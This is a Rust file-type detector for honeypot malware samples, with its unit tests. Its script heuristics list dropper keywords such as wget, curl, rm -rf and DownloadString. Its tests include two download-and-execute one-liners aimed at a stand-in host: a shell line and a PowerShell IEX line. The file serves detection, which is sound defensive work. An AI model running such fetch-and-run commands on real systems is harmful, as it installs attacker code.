//! A sample's file type from its magic bytes, like `file(1)` for the formats honeypots catch.
//!
//! Why our own: the bytes are an attacker's, so the detector is a pure function over a slice that
//! never panics, never allocates from a length it read, and only looks at a bounded prefix
//! ([`SNIFF_BYTES`]) plus headers at offsets it checks against the slice (fuzzed by
//! `fuzz/fuzz_targets/sample_filetype.rs`). It answers the questions an analyst filters on
//! (which CPU an ELF is for, whether a PE is a DLL, which interpreter a script needs, which
//! archive) rather than everything libmagic knows.

use std::fmt;

/// How much of a sample the text and script heuristics look at.
pub const SNIFF_BYTES: usize = 8192;

/// The broad kind, for filters.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    Executable,
    Script,
    Archive,
    Document,
    Text,
    Data,
    Empty,
}

/// What [`detect`] found: the kind and a short human description.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct FileType {
    pub category: Category,
    pub description: String,
}

impl fmt::Display for FileType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.description)
    }
}

fn ft(category: Category, description: impl Into<String>) -> FileType {
    FileType { category, description: description.into() }
}

/// The file type of `bytes`.
pub fn detect(bytes: &[u8]) -> FileType {
    if bytes.is_empty() {
        return ft(Category::Empty, "empty");
    }
    if let Some(t) = elf(bytes).or_else(|| pe(bytes)).or_else(|| macho(bytes)) {
        return t;
    }
    if let Some(t) = archive(bytes).or_else(|| document(bytes)) {
        return t;
    }
    let head = &bytes[..bytes.len().min(SNIFF_BYTES)];
    if head.starts_with(b"#!") {
        return shebang(head);
    }
    match text_kind(head) {
        Some(encoding) => script_heuristics(head).unwrap_or_else(|| ft(Category::Text, format!("{encoding} text"))),
        None => ft(Category::Data, "data"),
    }
}

fn u16_at(b: &[u8], off: usize, big: bool) -> Option<u16> {
    let s: [u8; 2] = b.get(off..off.checked_add(2)?)?.try_into().ok()?;
    Some(if big { u16::from_be_bytes(s) } else { u16::from_le_bytes(s) })
}

fn u32_at(b: &[u8], off: usize, big: bool) -> Option<u32> {
    let s: [u8; 4] = b.get(off..off.checked_add(4)?)?.try_into().ok()?;
    Some(if big { u32::from_be_bytes(s) } else { u32::from_le_bytes(s) })
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

/// UPX writes its `UPX!` magic into the first page of what it packs (Mirai builds often are).
fn upx_suffix(bytes: &[u8]) -> &'static str {
    let head = &bytes[..bytes.len().min(4096)];
    if contains(head, b"UPX!") {
        ", UPX compressed"
    } else {
        ""
    }
}

fn elf_machine(machine: u16, big: bool) -> String {
    let name = match machine {
        2 => "SPARC",
        3 => "Intel 80386",
        4 => "Motorola m68k",
        8 | 10 => {
            return if big { "MIPS (big-endian, mips)".into() } else { "MIPS (little-endian, mipsel)".into() };
        }
        15 => "PA-RISC",
        18 => "SPARC32PLUS",
        20 => "PowerPC",
        21 => "PowerPC64",
        22 => "IBM S/390",
        40 => "ARM",
        42 => "Renesas SuperH",
        43 => "SPARC V9",
        50 => "IA-64",
        62 => "x86-64",
        83 => "Atmel AVR",
        92 => "OpenRISC",
        93 => "ARC Compact",
        164 => "Qualcomm Hexagon",
        183 => "ARM aarch64",
        189 => "Xilinx MicroBlaze",
        195 => "ARCv2",
        243 => "RISC-V",
        258 => "LoongArch",
        0x9026 => "Alpha",
        other => return format!("machine {other}"),
    };
    name.into()
}

fn elf(b: &[u8]) -> Option<FileType> {
    if !b.starts_with(b"\x7fELF") {
        return None;
    }
    let class = match b.get(4) {
        Some(1) => "32-bit",
        Some(2) => "64-bit",
        _ => return Some(ft(Category::Executable, "ELF, invalid class")),
    };
    let big = match b.get(5) {
        Some(1) => false,
        Some(2) => true,
        _ => return Some(ft(Category::Executable, format!("ELF {class}, invalid byte order"))),
    };
    let order = if big { "MSB" } else { "LSB" };
    let (Some(kind), Some(machine)) = (u16_at(b, 16, big), u16_at(b, 18, big)) else {
        return Some(ft(Category::Executable, format!("ELF {class} {order}, truncated")));
    };
    let kind = match kind {
        1 => "relocatable",
        2 => "executable",
        3 => "shared object",
        4 => "core file",
        _ => "unknown type",
    };
    let desc = format!("ELF {class} {order} {kind}, {}{}", elf_machine(machine, big), upx_suffix(b));
    Some(ft(Category::Executable, desc))
}

fn pe(b: &[u8]) -> Option<FileType> {
    if !b.starts_with(b"MZ") {
        return None;
    }
    let dos = || Some(ft(Category::Executable, "MS-DOS executable"));
    // e_lfanew is read from the file: every offset derived from it is checked against the slice.
    let Some(off) = u32_at(b, 0x3c, false).and_then(|o| usize::try_from(o).ok()) else { return dos() };
    if b.get(off..off.saturating_add(4)) != Some(b"PE\0\0".as_slice()) {
        return dos();
    }
    let coff = off + 4;
    let (Some(machine), Some(characteristics)) = (u16_at(b, coff, false), u16_at(b, coff + 18, false)) else {
        return Some(ft(Category::Executable, "PE executable, truncated"));
    };
    let format = match u16_at(b, coff + 20, false) {
        Some(0x10b) => "PE32",
        Some(0x20b) => "PE32+",
        _ => "PE",
    };
    let role = if characteristics & 0x2000 != 0 { "DLL" } else { "EXE" };
    let machine = match machine {
        0x14c => "Intel 80386".to_string(),
        0x8664 => "x86-64".into(),
        0x1c0 => "ARM".into(),
        0x1c4 => "ARMv7 Thumb".into(),
        0xaa64 => "ARM64".into(),
        0x200 => "IA-64".into(),
        other => format!("machine {other:#x}"),
    };
    let mut desc = format!("{format} executable ({role}), {machine}");
    if contains(&b[..b.len().min(4096)], b"UPX0") {
        desc.push_str(", UPX compressed");
    }
    Some(ft(Category::Executable, desc))
}

fn macho(b: &[u8]) -> Option<FileType> {
    let magic = u32_at(b, 0, true)?;
    let (bits, big) = match magic {
        0xfeedface => ("32-bit", true),
        0xcefaedfe => ("32-bit", false),
        0xfeedfacf => ("64-bit", true),
        0xcffaedfe => ("64-bit", false),
        // Universal binaries share CAFEBABE with Java classes; a fat header's arch count is small
        // where a class file's version (bytes 4..8) is large.
        0xcafebabe => {
            let n = u32_at(b, 4, true)?;
            return Some(if n > 0 && n < 20 {
                ft(Category::Executable, format!("Mach-O universal binary with {n} architectures"))
            } else {
                ft(Category::Executable, "compiled Java class")
            });
        }
        _ => return None,
    };
    let cpu = u32_at(b, 4, big).unwrap_or(0);
    let kind = u32_at(b, 12, big).unwrap_or(0);
    let cpu = match cpu {
        7 => "i386",
        0x0100_0007 => "x86_64",
        12 => "arm",
        0x0100_000c => "arm64",
        18 => "ppc",
        0x0100_0012 => "ppc64",
        _ => "unknown CPU",
    };
    let kind = match kind {
        1 => "object",
        2 => "executable",
        6 => "dynamically linked shared library",
        8 => "bundle",
        _ => "file",
    };
    Some(ft(Category::Executable, format!("Mach-O {bits} {kind}, {cpu}")))
}

/// A POSIX or GNU tar header: `ustar` at 257, or (old V7 tar) a valid header checksum.
fn is_tar(b: &[u8]) -> bool {
    let Some(h) = b.get(..512) else { return false };
    if h.get(257..262) == Some(b"ustar".as_slice()) {
        return true;
    }
    let field = &h[148..156];
    let digits: Vec<u8> = field.iter().copied().filter(|c| (b'0'..=b'7').contains(c)).collect();
    if digits.is_empty() || h[0] == 0 {
        return false;
    }
    let mut stored: u32 = 0;
    for d in digits.iter().take(8) {
        stored = stored * 8 + u32::from(d - b'0');
    }
    let sum: u32 = h.iter().enumerate().map(|(i, &c)| if (148..156).contains(&i) { 32 } else { u32::from(c) }).sum();
    sum == stored
}

fn zip_kind(b: &[u8]) -> &'static str {
    // The first local header's name (30-byte header, name length at 26) says what the zip holds.
    let n = usize::from(u16_at(b, 26, false).unwrap_or(0));
    let name = b.get(30..30 + n).unwrap_or(&[]);
    if name == b"[Content_Types].xml" || name.starts_with(b"word/") || name.starts_with(b"xl/") {
        "Microsoft OOXML document (zip)"
    } else if name == b"mimetype" && contains(&b[..b.len().min(128)], b"opendocument") {
        "OpenDocument (zip)"
    } else if name.starts_with(b"META-INF/") {
        "Java archive (zip)"
    } else if name == b"AndroidManifest.xml" || name == b"classes.dex" {
        "Android package (zip)"
    } else {
        "zip archive"
    }
}

fn archive(b: &[u8]) -> Option<FileType> {
    let a = |d: &str| Some(ft(Category::Archive, d));
    if b.starts_with(b"PK\x03\x04") || b.starts_with(b"PK\x05\x06") || b.starts_with(b"PK\x07\x08") {
        return a(zip_kind(b));
    }
    if b.starts_with(b"\x1f\x8b") {
        return a("gzip compressed data");
    }
    if b.len() >= 4 && b.starts_with(b"BZh") && (b'1'..=b'9').contains(&b[3]) {
        return a("bzip2 compressed data");
    }
    if b.starts_with(b"\xfd7zXZ\x00") {
        return a("xz compressed data");
    }
    if b.starts_with(b"7z\xbc\xaf\x27\x1c") {
        return a("7-zip archive");
    }
    if b.starts_with(b"Rar!\x1a\x07\x01\x00") {
        return a("RAR archive v5");
    }
    if b.starts_with(b"Rar!\x1a\x07\x00") {
        return a("RAR archive v4");
    }
    if b.starts_with(b"\x28\xb5\x2f\xfd") {
        return a("zstd compressed data");
    }
    if b.starts_with(b"MSCF\0\0\0\0") {
        return a("Microsoft Cabinet archive");
    }
    if b.starts_with(b"!<arch>\n") {
        return a("ar archive");
    }
    if is_tar(b) {
        return a("tar archive");
    }
    None
}

fn document(b: &[u8]) -> Option<FileType> {
    let d = |s: &str| Some(ft(Category::Document, s));
    if contains(&b[..b.len().min(1024)], b"%PDF-") {
        return d("PDF document");
    }
    if b.starts_with(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") {
        return d("OLE2 compound document (MS Office 97-2003, MSI)");
    }
    if b.starts_with(b"{\\rtf") {
        return d("RTF document");
    }
    if b.starts_with(b"L\0\0\0\x01\x14\x02\0") {
        return d("MS Windows shortcut");
    }
    if b.starts_with(b"dex\n") {
        return Some(ft(Category::Executable, "Dalvik dex file"));
    }
    None
}

/// `Some("ASCII")` or `Some("UTF-8")` when the prefix reads as text, `None` for binary data.
fn text_kind(head: &[u8]) -> Option<&'static str> {
    let text = match std::str::from_utf8(head) {
        Ok(t) => t,
        // A multi-byte character cut by the prefix bound is still text.
        Err(e) if e.error_len().is_none() && head.len() - e.valid_up_to() < 4 => {
            std::str::from_utf8(&head[..e.valid_up_to()]).ok()?
        }
        Err(_) => return None,
    };
    let bad = text.chars().filter(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c' | '\x1b')).count();
    if bad > 0 {
        return None;
    }
    Some(if text.is_ascii() { "ASCII" } else { "UTF-8" })
}

fn script(name: impl Into<String>) -> FileType {
    ft(Category::Script, name)
}

fn interpreter_script(interp: &str) -> FileType {
    let base = interp.rsplit('/').next().unwrap_or(interp);
    let lang = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match lang {
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "mksh" | "busybox" => script("shell script"),
        "python" => script("Python script"),
        "perl" => script("Perl script"),
        "pwsh" | "powershell" => script("PowerShell script"),
        "ruby" => script("Ruby script"),
        "php" => script("PHP script"),
        "node" | "nodejs" => script("Node.js script"),
        "lua" => script("Lua script"),
        "tclsh" | "expect" => script("Tcl script"),
        _ => {
            let shown: String = base.chars().filter(|c| c.is_ascii_graphic()).take(32).collect();
            script(format!("script ({shown})"))
        }
    }
}

fn shebang(head: &[u8]) -> FileType {
    let line = head[2..].split(|&c| c == b'\n').next().unwrap_or(&[]);
    let line = String::from_utf8_lossy(&line[..line.len().min(256)]);
    let mut words = line.split_whitespace();
    let Some(first) = words.next() else { return script("script (no interpreter)") };
    if first.rsplit('/').next() == Some("env") {
        // `#!/usr/bin/env -S python3 -u`: the first word that is not an option.
        if let Some(interp) = words.find(|w| !w.starts_with('-')) {
            return interpreter_script(interp);
        }
    }
    interpreter_script(first)
}

/// Scripts without a shebang (droppers pasted into shells often have none): count markers.
fn script_heuristics(head: &[u8]) -> Option<FileType> {
    let text = String::from_utf8_lossy(head).to_ascii_lowercase();
    let score = |markers: &[&str]| markers.iter().filter(|m| text.contains(*m)).count();
    let powershell = score(&[
        "invoke-expression",
        "iex(",
        "iex (",
        "new-object",
        "net.webclient",
        "downloadstring(",
        "-encodedcommand",
        "$env:",
        "[system.",
        "start-process",
        "set-executionpolicy",
        "powershell",
    ]);
    let shell = score(&[
        "cd /tmp", "wget ", "curl ", "chmod ", "busybox", "rm -rf", "/bin/sh", "tftp ", "nohup ", "echo -ne", "; then",
        "fi\n", "done\n", "export ",
    ]);
    let python = score(&["import ", "def ", "from ", "if __name__", "print(", "socket.socket", "self."]);
    let perl = score(&["use strict", "use warnings", "my $", "use socket", "sub ", "$_", "print \""]);
    let best =
        [(powershell, "PowerShell script"), (shell, "shell script"), (python, "Python script"), (perl, "Perl script")]
            .into_iter()
            .max_by_key(|(s, _)| *s)?;
    (best.0 >= 2).then(|| script(best.1))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn elf_header(class: u8, data: u8, machine: u16) -> Vec<u8> {
        let mut h = vec![0u8; 64];
        h[..4].copy_from_slice(b"\x7fELF");
        h[4] = class;
        h[5] = data;
        let big = data == 2;
        let put = |v: u16| if big { v.to_be_bytes() } else { v.to_le_bytes() };
        h[16..18].copy_from_slice(&put(2));
        h[18..20].copy_from_slice(&put(machine));
        h
    }

    #[test]
    fn elf_machines_and_byte_order() {
        for (class, data, machine, want) in [
            (1, 1, 40, "ELF 32-bit LSB executable, ARM"),
            (2, 1, 183, "ELF 64-bit LSB executable, ARM aarch64"),
            (1, 2, 8, "ELF 32-bit MSB executable, MIPS (big-endian, mips)"),
            (1, 1, 8, "ELF 32-bit LSB executable, MIPS (little-endian, mipsel)"),
            (1, 1, 3, "ELF 32-bit LSB executable, Intel 80386"),
            (2, 1, 62, "ELF 64-bit LSB executable, x86-64"),
            (1, 2, 20, "ELF 32-bit MSB executable, PowerPC"),
            (1, 2, 2, "ELF 32-bit MSB executable, SPARC"),
            (1, 1, 42, "ELF 32-bit LSB executable, Renesas SuperH"),
            (1, 2, 4, "ELF 32-bit MSB executable, Motorola m68k"),
            (1, 1, 93, "ELF 32-bit LSB executable, ARC Compact"),
        ] {
            assert_eq!(detect(&elf_header(class, data, machine)).description, want);
        }
        let mut upx = elf_header(1, 1, 40);
        upx.extend_from_slice(b"\0\0UPX!\0");
        assert!(detect(&upx).description.ends_with("UPX compressed"));
        assert_eq!(detect(b"\x7fELF\x01\x01").description, "ELF 32-bit LSB, truncated");
    }

    #[test]
    fn pe_header_bounds_are_checked() {
        let mut b = vec![0u8; 0x200];
        b[..2].copy_from_slice(b"MZ");
        b[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        b[0x80..0x84].copy_from_slice(b"PE\0\0");
        b[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
        b[0x96..0x98].copy_from_slice(&0x2022u16.to_le_bytes());
        b[0x98..0x9a].copy_from_slice(&0x20bu16.to_le_bytes());
        assert_eq!(detect(&b).description, "PE32+ executable (DLL), x86-64");
        b[0x3c..0x40].copy_from_slice(&u32::MAX.to_le_bytes());
        assert_eq!(detect(&b).description, "MS-DOS executable");
    }

    /// A bounded stand-in for the fuzz target on stable: every prefix of each format's header,
    /// and random byte flips in them, never panic.
    #[test]
    fn hostile_headers_never_panic() {
        let mut pe = vec![0u8; 0x100];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x40;
        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
        let seeds: Vec<Vec<u8>> = vec![
            elf_header(1, 1, 40),
            pe,
            b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0".to_vec(),
            b"PK\x03\x04\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\xff\xff\0\0META-INF/".to_vec(),
            b"#!/usr/bin/env -S\n".to_vec(),
            vec![b'0'; 600],
            "\u{e9}t\u{e9} \u{1F600}".as_bytes().to_vec(),
        ];
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut rnd = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for seed in &seeds {
            for n in 0..=seed.len() {
                let _ = detect(&seed[..n]);
            }
            for _ in 0..5000 {
                let mut b = seed.clone();
                for _ in 0..(rnd() % 4 + 1) {
                    let i = (rnd() as usize) % b.len();
                    b[i] = rnd() as u8;
                }
                let cut = (rnd() as usize) % (b.len() + 1);
                assert!(!detect(&b[..cut]).description.is_empty());
            }
        }
    }

    #[test]
    fn formats_and_text() {
        assert_eq!(detect(b"").category, Category::Empty);
        assert_eq!(detect(b"#!/usr/bin/env -S python3 -u\nprint(1)\n").description, "Python script");
        assert_eq!(detect(b"#!/bin/busybox sh\n").description, "shell script");
        assert_eq!(detect(b"#!/usr/bin/perl -w\n").description, "Perl script");
        assert_eq!(detect(b"#!/usr/bin/pwsh\n").description, "PowerShell script");
        assert_eq!(detect(b"cd /tmp; wget http://x/y; chmod 777 y; ./y\n").description, "shell script");
        assert_eq!(
            detect(b"IEX (New-Object Net.WebClient).DownloadString('http://x')").description,
            "PowerShell script"
        );
        assert_eq!(detect(b"hello world\n").description, "ASCII text");
        assert_eq!(detect("h\u{e9}llo\n".as_bytes()).description, "UTF-8 text");
        assert_eq!(detect(b"\x00\x01\x02\xff").description, "data");
        assert_eq!(detect(b"%PDF-1.7\n").description, "PDF document");
        assert_eq!(detect(b"\xfd7zXZ\x00\x00").description, "xz compressed data");
        assert_eq!(detect(b"BZh91AY&SY").description, "bzip2 compressed data");
        assert_eq!(detect(b"7z\xbc\xaf\x27\x1c\0\x04").description, "7-zip archive");
        assert_eq!(detect(b"Rar!\x1a\x07\x01\x00").description, "RAR archive v5");
        assert_eq!(detect(b"\xca\xfe\xba\xbe\0\0\0\x02").description, "Mach-O universal binary with 2 architectures");
        assert_eq!(detect(b"\xca\xfe\xba\xbe\0\0\0\x34").description, "compiled Java class");
        assert_eq!(
            detect(b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0").description,
            "Mach-O 64-bit executable, arm64"
        );
    }
}
